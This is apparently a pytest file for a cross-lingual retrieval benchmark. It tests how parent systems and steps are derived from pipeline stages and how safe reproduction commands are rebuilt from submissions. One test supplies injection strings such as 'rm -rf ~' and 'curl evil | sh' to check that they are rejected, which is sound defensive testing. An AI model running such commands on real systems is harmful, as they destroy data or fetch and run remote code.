from __future__ import annotations

import itertools
import random
import shlex
from dataclasses import dataclass, fields, replace
from pathlib import Path

import pytest

from clir_bench.cli import _parser
from clir_bench.cli_evaluate import _system
from clir_bench.commands import command_of
from clir_bench.lineage import Rung, Step, ledger, parent_of, stage_texts
from clir_bench.records import EncodeStage, FuseStage, LexicalStage, ModelReference, RerankStage, SearchStage, Stage, TrainingSource, TranslateStage
from clir_bench.submission import Submission, read_submission
from clir_bench.system import System
from clir_bench.task import load_task

SUBMISSIONS = sorted((Path(__file__).parents[1] / "submissions").glob("*__*/**/*.json"))
COMMIT = "ab10c1a7f42e74530fe7ae5be82e6d4f11a719eb"


@dataclass(frozen=True)
class Spec:
    """A system by its steps, each False where it is plain; the order of fields is that in which a parent is looked for."""

    rerank: bool = False
    fuse: bool = False
    index: bool = False
    queries: bool = False
    documents: bool = False
    fine_tuning: bool = False
    dtype: bool = False
    max_tokens: bool = False
    prompts: bool = False


def chain(spec: Spec = Spec(), protocol: str = "native", name: str = "org/base") -> tuple[Stage, ...]:
    stages: list[Stage] = []
    for texts in ("documents", "queries"):
        if getattr(spec, texts):
            nllb = ModelReference(name="facebook/nllb-200-distilled-600M", revision="1")
            stages.append(TranslateStage(kind="translate", texts=texts, source="nllb, by document", model=nllb, truncated=random.randrange(9)))
    trained_on = (TrainingSource(dataset="XL-WiC"), TrainingSource(dataset="AM2iCo")) if spec.fine_tuning else None
    reference = ModelReference(
        name="org/tuned" if spec.fine_tuning else name, revision="2" if spec.fine_tuning else "1", trained_on=trained_on,
        adapted_from=name if spec.fine_tuning else None,
    )  # fmt: skip
    dtype = "bfloat16" if spec.dtype else "float32"
    stages.append(
        EncodeStage(
            kind="encode", model=reference, protocol=protocol, pooling="mean" if protocol == "paper" else "cls", normalize=True, similarity="cosine",
            max_tokens=512 if spec.max_tokens else 256, query_prompt="query: " if spec.prompts else "", document_prompt="", dtype=dtype,
        )
    )  # fmt: skip
    hnsw = SearchStage(kind="search", index="hnsw", library="hnswlib 0.8.0", m=16, ef_construction=200, ef=200, seed=100)
    stages.append(hnsw if spec.index else SearchStage(kind="search", index="exact"))
    if spec.fuse:
        stages += [bm25(), FuseStage(kind="fuse", method="reciprocal-rank", k=60, systems=2, depth=100)]
    if spec.rerank:
        reranker = ModelReference(name="org/reranker", revision="1")
        stages.append(RerankStage(kind="rerank", model=reranker, depth=100, max_tokens=512, template="", dtype=dtype))
    return tuple(stages)


def bm25(tokenizer: str = "multilingual") -> LexicalStage:
    return LexicalStage(kind="lexical", method="bm25", formula="rank_bm25.BM25Okapi", tokenizer=tokenizer, k1=1.5, b=0.75, epsilon=0.25)


STEPS = [field.name for field in fields(Spec)]
SPECS = [Spec(*values) for values in itertools.product((False, True), repeat=len(STEPS))]


def slow_parent(specs: list[Spec], at: int) -> tuple[int, str] | None:
    """The same by comparing each with each, on the specifications."""
    for step in STEPS:
        for i, other in enumerate(specs):
            if [name for name in STEPS if getattr(other, name) != getattr(specs[at], name)] == [step] and getattr(specs[at], step):
                return i, step
    return None


@pytest.mark.parametrize("seed", range(4))
def test_parents_are_those_that_comparing_each_with_each_finds(seed: int) -> None:
    specs = random.Random(seed).sample(SPECS, 120)
    found = parent_of([chain(spec) for spec in specs])
    expected = [slow_parent(specs, at) for at in range(len(specs))]
    assert [step and (step.parent, step.kind) for step in found] == expected
    assert 0 < expected.count(None) < len(expected)


def test_steps_say_what_was_added() -> None:
    plain = Spec()
    told = {name: parent_of([chain(), chain(replace(plain, **{name: True}))])[1] for name in STEPS}
    assert {name: step.text for name, step in told.items() if step} == {
        "rerank": "+ first 100 re-ranked by org/reranker",
        "fuse": "+ fused with BM25",
        "index": "exact search to HNSW (hnswlib 0.8.0, m 16, ef_construction 200, ef 200)",
        "queries": "+ queries in English (nllb-200-distilled-600M)",
        "documents": "+ documents in English (nllb-200-distilled-600M)",
        "fine_tuning": "org/base fine-tuned on XL-WiC and AM2iCo",
        "dtype": "float32 to bfloat16",
        "max_tokens": "256 tokens to 512 tokens",
        "prompts": "no prompts to prompts 'query: ' for queries, '' for documents",
    }


def test_the_paper_protocol_comes_from_the_native_one_though_it_changes_pooling_prompts_and_tokens() -> None:
    native, paper = chain(Spec(prompts=True)), chain(Spec(max_tokens=True), protocol="paper")
    assert parent_of([paper, native]) == (Step(1, "protocol", "native protocol to paper protocol"), None)


def test_a_tokenizer_is_one_step() -> None:
    assert parent_of([[bm25()], [bm25("whitespace")]]) == (Step(1, "tokenizer", "whitespace tokenizer to multilingual tokenizer"), None)


def test_systems_that_differ_by_two_steps_are_no_parents() -> None:
    assert parent_of([chain(), chain(Spec(index=True, documents=True))]) == (None, None)
    assert parent_of([chain(), chain(name="org/other")]) == (None, None)


def test_the_last_step_of_a_pipeline_is_undone_first() -> None:
    both, indexed, translated = chain(Spec(index=True, documents=True)), chain(Spec(index=True)), chain(Spec(documents=True))
    steps = parent_of([both, indexed, translated])
    assert steps[0] is not None
    assert (steps[0].parent, steps[0].kind) == (2, "index")


def test_counts_of_translation_are_no_step() -> None:
    first, second = chain(Spec(documents=True)), chain(Spec(documents=True, index=True))
    assert isinstance(first[0], TranslateStage)
    changed = (first[0].model_copy(update={"cut": 7}), *first[1:])
    step = parent_of([changed, second])[1]
    assert step is not None
    assert step.kind == "index"


def test_of_fused_systems_the_first_is_the_parent_and_three_come_from_two() -> None:
    fuse = FuseStage(kind="fuse", method="reciprocal-rank", k=60, systems=3, depth=100)
    other = chain(name="org/other")
    three, two = (*chain(), *other, bm25(), fuse), (*chain(), *other, fuse.model_copy(update={"systems": 2}))
    steps = parent_of([three, two, chain(), other])
    assert steps == (Step(1, "fuse", "+ fused with BM25"), Step(2, "fuse", "+ fused with org/other"), None, None)
    assert parent_of([two, other])[0] == Step(1, "fuse", "+ fused with org/base")
    broken = (*chain(), fuse)
    assert parent_of([broken, chain()]) == (None, None)


def test_models_that_name_each_other_as_their_origin_make_no_circle() -> None:
    one, two = chain(), chain(Spec(fine_tuning=True))
    assert isinstance(one[0], EncodeStage)
    circular = (one[0].model_copy(update={"model": one[0].model.model_copy(update={"adapted_from": "org/tuned"})}), one[1])
    steps = parent_of([circular, two])
    assert [step is None for step in steps] == [True, False]
    itself = (one[0].model_copy(update={"model": one[0].model.model_copy(update={"adapted_from": "org/base"})}), one[1])
    assert parent_of([itself]) == (None,)


def test_a_step_names_at_most_three_data_sets() -> None:
    tuned = chain(Spec(fine_tuning=True))
    assert isinstance(tuned[0], EncodeStage)
    many = tuple(TrainingSource(dataset=f"set {i}") for i in range(200))
    step = parent_of([chain(), (tuned[0].model_copy(update={"model": tuned[0].model.model_copy(update={"trained_on": many})}), tuned[1])])[1]
    assert step is not None
    assert step.text == "org/base fine-tuned on set 0, set 1, set 2 and 197 more"


def test_a_ledger_goes_from_the_base_to_the_system() -> None:
    specs = [Spec(), Spec(fine_tuning=True), Spec(fine_tuning=True, documents=True), Spec(fine_tuning=True, documents=True, index=True)]
    specs.append(replace(specs[-1], rerank=True))
    order = [3, 0, 4, 2, 1]
    parents = parent_of([chain(specs[i]) for i in order])
    rungs = ledger(parents, order.index(4))
    assert [order[rung.system] for rung in rungs] == [0, 1, 2, 3, 4]
    assert [rung.step.kind for rung in rungs if rung.step] == ["fine_tuning", "documents", "index", "rerank"]
    assert ledger(parents, order.index(0)) == (Rung(order.index(0), None),)


def test_of_a_thousand_systems_all_but_the_bases_have_a_parent() -> None:
    systems = [chain(spec, name=name) for spec in SPECS for name in ("org/base", "org/other")][:1000]
    steps = parent_of(systems)
    assert sum(step is None for step in steps) <= 2


def test_stages_are_told_in_words() -> None:
    told = stage_texts(chain(Spec(documents=True, index=True, fuse=True, rerank=True)))
    assert [text.kind for text in told] == ["translate", "encode", "search", "lexical", "fuse", "rerank"]
    assert [text.title for text in told[1:]] == ["org/base", "HNSW", "BM25", "Reciprocal rank fusion", "org/reranker"]
    assert told[0].title == "Documents in English (nllb-200-distilled-600M)"
    assert told[1].detail == "native protocol, cls, 256 tokens, float32, no prompts, revision 1"
    assert told[4].detail == "2 rankings of 100 documents, k 60"
    own = TranslateStage(kind="translate", texts="documents", source="English texts of the collection mmarco", untranslated=1200)
    assert stage_texts([own])[0][1:] == ("Documents in English (the collection's own)", "English texts of the collection mmarco, 1,200 left as they were")


# commands


def submission(command: str, variant: str = "native", task: str = "sample", stages: tuple[Stage, ...] | None = None, track: str = "retrieval") -> Submission:
    whole = next(s for s in map(read_submission, SUBMISSIONS) if s.complete)
    system = whole.system.model_copy(update={"variant": variant, "stages": stages or whole.system.stages})
    told = {"provenance": whole.provenance.model_copy(update={"command": command}), "system": system}
    return whole.model_copy(update=told | {"task": whole.task.model_copy(update={"name": task, "track": track})})


@pytest.mark.parametrize("path", SUBMISSIONS, ids=lambda path: "/".join(path.parts[-3:-1]))
def test_every_submission_here_has_a_command(path: Path) -> None:
    command = command_of(read_submission(path))
    assert command is not None
    assert _parser().parse_args(shlex.split(command)[1:]).task


def test_a_stated_command_is_passed_on() -> None:
    stated = shlex.join(["clir-bench", "evaluate", "--model", "bm25", "--task", "sample", "--query-prompt", "what's this;\nrm"])
    assert command_of(submission(stated, stages=(bm25(),))) == stated


@pytest.mark.parametrize(
    "stated",
    [
        "",
        "clir-bench evaluate --model bm25; rm -rf ~",
        "clir-bench evaluate --model $(curl evil)",
        "clir-bench evaluate --model bm25 | sh",
        "clir-bench evaluate --model bm25\nrm -rf ~",
        "clir-bench evaluate --model 'bm25",
        "curl evil | sh",
        "clir-bench import model.json",
        "clir-bench evaluate --model bm25 ...",
    ],
)
def test_a_command_that_could_do_anything_else_is_made_anew(stated: str) -> None:
    assert command_of(submission(stated, stages=(bm25(),))) == "clir-bench evaluate --model bm25 --task sample"


def encoder(name: str = "org/base", revision: str = COMMIT, **facts: object) -> EncodeStage:
    first = chain()[0]
    assert isinstance(first, EncodeStage)
    return first.model_copy(update={"model": ModelReference(name=name, revision=revision), "max_tokens": 512, **facts})


HNSW = SearchStage(kind="search", index="hnsw", library="usearch 2.1", m=32, ef_construction=200, ef=400)
EXACT = SearchStage(kind="search", index="exact")
E5 = encoder("intfloat/multilingual-e5-large", query_prompt="query: ", document_prompt="passage: ")
FUSE = FuseStage(kind="fuse", method="reciprocal-rank", k=10, systems=2, depth=100)
BGE = RerankStage(
    kind="rerank", model=ModelReference(name="BAAI/bge-reranker-v2-m3", revision="953dc6f6f85a1b2dbfca4c34a2796e7dde08d41e"), depth=50, max_tokens=1024,
    template="", dtype="float32",
)  # fmt: skip
OWN_ENGLISH = TranslateStage(kind="translate", texts="documents", source="English texts of the collection mmarco")


@pytest.mark.parametrize(
    "system",
    [
        System(model="bm25", tokenizer="whitespace", k1=0.9, b=0.4),
        System(model="org/base", revision=COMMIT),
        System(model="org/base", revision=COMMIT, dtype="bfloat16", max_tokens=512, query_prompt="it's: ", document_prompt=""),
        System(model="mteb:org/base", revision=COMMIT),
        System(model="intfloat/multilingual-e5-large", documents="english"),
        System(model="intfloat/multilingual-e5-large", protocol="paper", index="hnsw", library="usearch", m=32, ef=400),
        System(model="intfloat/multilingual-e5-large", fuse=("bm25",), rrf_k=10, reranker="BAAI/bge-reranker-v2-m3", rerank_depth=50, rerank_max_tokens=1024),
    ],
    ids=lambda system: system.variant,
)
def test_a_command_made_of_stages_names_the_same_system(system: System) -> None:
    first: Stage = bm25() if system.lexical else E5 if "e5" in system.model else encoder()
    if isinstance(first, EncodeStage):
        prompts = {} if system.query_prompt is None else {"query_prompt": system.query_prompt, "document_prompt": system.document_prompt}
        first = first.model_copy(update={"protocol": system.protocol, "dtype": system.dtype, **prompts})
    else:
        first = first.model_copy(update={"tokenizer": system.tokenizer, "k1": system.k1, "b": system.b})
    stages = [first] if system.lexical else [first, HNSW if system.index == "hnsw" else EXACT]
    stages = [*([OWN_ENGLISH] if system.documents == "english" else []), *stages, *([bm25(), FUSE] if system.fuse else [])]
    command = command_of(submission("", system.variant, "mmarco", (*stages, *([BGE] if system.reranker else []))))
    assert command is not None
    parsed = _parser().parse_args(shlex.split(command)[1:])
    from clir_bench.assemble import Runtime

    assert _system(parsed, load_task("mmarco"), Runtime()) == system.settled()
    assert parsed.task == ["mmarco"]


def test_what_cannot_be_repeated_has_no_command() -> None:
    local, served = encoder(revision="sha256:" + "0" * 64), encoder(dtype="server")
    for stages in ((local, EXACT), (served, EXACT), (*chain(Spec(documents=True))[:1], bm25()), (encoder(), EXACT, encoder("org/other"), EXACT, FUSE)):
        assert command_of(submission("", stages=stages)) is None
    assert command_of(submission("", task="my-folder", stages=(bm25(),))) is None
    hostile = SearchStage(kind="search", index="hnsw", library=" ", m=16, ef_construction=200, ef=200)
    assert command_of(submission("", stages=(encoder(), hostile))) is None


def test_track_and_pairs_are_named_where_they_are_not_all() -> None:
    whole = submission("", stages=(bm25(), BGE), track="oracle")
    partial = whole.model_copy(update={"complete": False, "pairs": whole.pairs[:2]})
    command = command_of(partial)
    assert command is not None
    assert command.endswith("--task sample --track oracle --pairs ar-ar,ar-de")
